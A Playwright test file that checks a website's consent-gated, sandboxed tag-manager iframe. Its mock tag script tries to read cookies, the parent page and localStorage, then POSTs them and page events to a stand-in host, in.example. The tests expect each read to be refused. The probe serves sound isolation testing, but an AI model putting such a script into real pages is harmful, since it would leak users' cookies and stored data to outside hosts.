/** API-32, D-64: the tag manager's list in its closed frame, with one outside service that works and three that do not. */
import { createServer } from 'node:http'
import { createServer as createSecureServer } from 'node:https'
import type { Server } from 'node:net'

import { expect, type Page, test } from '@playwright/test'
import { generate } from 'selfsigned'

import { dialogOf, WORDS } from '../auth/support.ts'
import { runExclusive } from '../run-exclusive.ts'
import { follow, siteUrl, visit } from '../shell/support.ts'

const PORTS = JSON.parse(process.env.OUTSIDE_PORTS ?? '{}') as { forged: number; slow: number }

/** Reports what it can reach, and every event that it receives. */
const COUNTER = `
const reach = (read) => { try { return String(read()) } catch { return 'refused' } }
const report = { cookie: reach(() => document.cookie), parent: reach(() => parent.document.title), stored: reach(() => localStorage.length), origin: self.origin }
const send = (event) => fetch('https://in.example/e', { method: 'POST', body: JSON.stringify({ ...report, ...event }) })
dataLayer.forEach(send)
dataLayer.push = (event) => send(event)
fetch('https://elsewhere.example/e').catch(() => 0)
`

interface Seen {
  events: Record<string, unknown>[]
  hosts: Set<string>
}

async function answerFor(page: Page): Promise<Seen> {
  const seen: Seen = { events: [], hosts: new Set() }
  await page.route('https://tags.example/**', (route) => {
    seen.hosts.add('tags.example')
    return route.fulfill({ contentType: 'text/javascript', body: COUNTER })
  })
  await page.route('https://in.example/**', (route) => {
    const text = route.request().postData()
    if (text) seen.events.push(JSON.parse(text) as Record<string, unknown>)
    return route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } })
  })
  await page.route('https://elsewhere.example/**', (route) => {
    seen.hosts.add('elsewhere.example')
    return route.abort()
  })
  return seen
}

const allowTags = (page: Page) => page.context().addCookies([{ name: 'consent', value: 'tags', url: siteUrl().origin }])
const frameOf = (page: Page) => page.locator('iframe[src="/outside/tags"]')
const paths = ({ events }: Seen) => events.filter(({ event }) => event === 'page_view').map(({ path }) => path)

async function opened(server: Server, port: number): Promise<Server> {
  await new Promise<void>((ready) => server.listen(port, '127.0.0.1', ready))
  return server
}

test('API-32 D-64 tags run with their consent only, and get events of a fixed list without reaching the page', async ({ page }) => {
  const seen = await answerFor(page)
  await visit(page, '/en/faq')
  await expect(frameOf(page)).toHaveCount(0)
  expect([...seen.hosts]).toEqual([])
  await allowTags(page)
  await visit(page, '/en/faq')
  await expect.poll(() => paths(seen)).toEqual(['/faq'])
  expect(seen.events[0]).toEqual({
    event: 'page_view',
    path: '/faq',
    cookie: 'refused',
    parent: 'refused',
    stored: 'refused',
    origin: 'null',
  })
  await follow(page, '/en/fairness')
  await expect.poll(() => paths(seen)).toEqual(['/faq', '/fairness'])
  expect([...seen.hosts], 'the policy of the frame lets no other host through').toEqual(['tags.example'])
})

test('D-64 no tag runs beside a form of log-in or on the profile, where its frame is taken away', async ({ page }) => {
  const seen = await answerFor(page)
  await allowTags(page)
  await visit(page, '/en/faq?login')
  await expect(dialogOf(page, WORDS.en.loginTitle)).toBeVisible()
  await expect(frameOf(page)).toHaveCount(0)
  await page.keyboard.press('Escape')
  await expect(frameOf(page)).toHaveCount(1)
  await expect.poll(() => paths(seen)).toContain('/faq')
  await follow(page, '/en/password/reset')
  await expect(frameOf(page)).toHaveCount(0)
  expect(paths(seen)).not.toContain('/password/reset')
})

test('API-32 a slow, a refusing and a wrongly certified tag disturb neither the others nor the page', async ({ page }) => {
  await runExclusive('outside services', async () => {
    const calls = { forged: 0, slow: 0 }
    const { private: key, cert } = await generate([{ name: 'commonName', value: 'localhost' }], {
      extensions: [{ name: 'subjectAltName', altNames: [{ type: 2, value: 'localhost' }] }],
    })
    const slow = createServer(() => void calls.slow++)
    const forged = createSecureServer({ key, cert }, (_, response) => void (calls.forged++, response.end()))
    const servers = [await opened(slow, PORTS.slow), await opened(forged, PORTS.forged)]
    const seen = await answerFor(page)
    const failed: string[] = []
    page.on('requestfailed', (request) => failed.push(request.failure()!.errorText))
    await allowTags(page)
    await visit(page, '/en/faq')
    await expect
      .poll(() => failed.filter((text) => /CERT|REFUSED/.test(text)).toSorted())
      .toEqual(['net::ERR_CERT_AUTHORITY_INVALID', 'net::ERR_CONNECTION_REFUSED'])
    await expect.poll(() => calls.slow).toBeGreaterThan(0)
    await expect.poll(() => paths(seen), 'while the slow one does not answer').toEqual(['/faq'])
    expect(calls.forged).toBe(0)
    await page.getByRole('contentinfo').getByRole('link', { name: 'Fairness' }).click()
    await expect(page).toHaveURL(/\/fairness$/)
    await expect.poll(() => paths(seen)).toEqual(['/faq', '/fairness'])
    slow.closeAllConnections()
    for (const server of servers) server.close()
  })
})
